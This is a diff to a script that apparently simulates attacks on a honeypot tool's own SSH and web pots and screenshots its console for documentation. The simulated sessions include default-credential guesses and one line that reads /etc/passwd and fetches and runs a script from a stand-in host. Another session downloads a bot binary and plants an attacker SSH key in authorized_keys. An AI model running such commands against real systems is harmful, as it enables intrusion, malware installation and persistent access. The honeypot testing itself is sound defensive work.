@@ -6,7 +6,7 @@
 import { mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { getJson, until } from "../tests/helpers";
-import { httpAttack, launchBrowser, potsRunning, sshAttack, startSystem } from "../tests/helpers/console";
+import { httpAttack, launchBrowser, potsRunning, sshAttack, sshShell, startSystem } from "../tests/helpers/console";
 
 const OUT = join(import.meta.dir, "..", "docs", "images");
 mkdirSync(OUT, { recursive: true });
@@ -20,6 +20,13 @@ await potsRunning(core, ["ssh-01", "web-01"]);
 
 for (const [user, pw] of [["root", "toor"], ["admin", "admin"], ["root", "password"], ["ubuntu", "ubuntu"], ["oracle", "oracle123"], ["pi", "raspberry"]]) await sshAttack(ports.ssh, user!, pw!);
 await sshAttack(ports.ssh, "root", "123456", "uname -a; cat /etc/passwd; wget http://198.51.100.9/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh");
+// A shell session, recorded by the pot: the session page plays it.
+await sshShell(ports.ssh, "root", "123456", ["uname -a", "cat /proc/cpuinfo | grep name | head -n 1", "wget http://198.51.100.9/bins/mips -O /tmp/.m", "busybox", "echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys"]);
+const shell = (await until(async () => {
+  const s = (await getJson(`${core.api}/api/v1/sessions?login_success=true`)).body.sessions as { id: number; recording: boolean }[];
+  const recorded = s.find((x) => x.recording);
+  return recorded && (await getJson(`${core.api}/api/v1/sessions/${recorded.id}`)).body.recording_file?.received ? recorded : null;
+}, "the shell's recording", 3000))!;
 for (const [user, pw] of [["admin", "hunter2"], ["admin", "admin123"], ["wp-admin", "letmein"]]) await httpAttack(ports.http, user!, pw!);
 await command({ GetPotStatus: "ssh-01" });
 await until(async () => (await getJson(`${core.api}/api/v1/events?limit=1&event_type=honnypotter.login.failed`)).body.events.length > 0, "the events", 3000);
@@ -56,3 +63,14 @@ await shoot("/settings", "settings", { scheme: "light" });
 await shoot("/", "overview-light", { scheme: "light" });
 await shoot("/", "overview-phone", { width: 390, height: 844, full: false });
 await shoot("/sessions", "sessions");
+// A session's page, its recording played to the end.
+{
+  const page = await browser.newPage({ viewport: { width: 1366, height: 1700 }, colorScheme: "dark" });
+  await page.goto(`${core.api}/sessions/${shell.id}`);
+  await page.locator(".ap-player").click();
+  await page.locator(".ap-term", { hasText: "authorized_keys" }).waitFor();
+  await page.waitForTimeout(3000); // the player reaches the end of the recording
+  await page.screenshot({ path: join(OUT, "console-session.png") });
+  console.log("docs/images/console-session.png");
+  await page.close();
+}
